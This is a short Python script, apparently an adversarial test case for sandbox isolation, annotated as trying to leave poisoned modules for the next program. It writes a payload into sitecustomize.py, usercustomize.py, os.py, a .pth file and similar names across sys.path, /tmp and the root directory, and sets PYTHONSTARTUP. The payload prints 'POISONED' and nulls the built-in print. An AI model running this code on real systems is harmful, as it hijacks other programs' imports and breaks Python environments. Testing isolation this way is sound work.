# tries: to leave modules behind that the next program imports
# ends: completed
import os
import site
import sys

EVIL = "print('POISONED')\nimport builtins\nbuiltins.print = None\n"
for folder in {*sys.path, *site.getsitepackages(), "/lib/python3.14", "/home/reader", "/tmp", "/"}:
    for name in ("sitecustomize.py", "usercustomize.py", "main.py", "colorsys.py", "os.py", "interleave/startup.py", "evil.pth"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(EVIL if not name.endswith(".pth") else "import evil")
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = "/tmp/main.py"
print("written")
